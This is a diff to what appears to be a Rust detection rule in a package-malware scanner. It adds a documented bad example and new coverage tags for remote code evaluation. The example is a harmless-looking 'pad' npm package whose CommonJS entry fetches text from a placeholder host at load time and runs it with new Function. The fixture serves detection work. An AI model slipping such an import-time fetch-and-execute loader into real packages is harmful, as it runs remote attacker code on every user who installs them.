@@ -45,6 +45,21 @@
 //! });
 //! ```
 //!
+//! Only those who load the CommonJS entry get it:
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "exports": {"import": "./dist/index.mjs", "require": "./dist/index.cjs"}}
+//! == dist/index.mjs
+//! export const pad = (text, width) => text.padStart(width);
+//! == dist/index.cjs
+//! exports.pad = (text, width) => text.padStart(width);
+//! require("https").get("https://pad.invalid/r", (reply) => {
+//!   let text = "";
+//!   reply.on("data", (chunk) => (text += chunk)).on("end", () => new Function("require", text)(require)); //~ here
+//! });
+//! ```
+//!
 //! ## Good
 //!
 //! ```package
@@ -84,7 +99,14 @@ impl Rule for RemoteTextEvaluated {
             severity: Level::High,
             specificity: Level::High,
             technique: "T1105",
-            covers: &["fetch-then-eval", "function-constructor", "error-body-exec", "dead-drop-json-store"],
+            covers: &[
+                "fetch-then-eval",
+                "function-constructor",
+                "error-body-exec",
+                "dead-drop-json-store",
+                "import-time-payload",
+                "entry-split-cjs-esm",
+            ],
             status: RuleStatus::Stable,
             since: "0.1.0",
         }
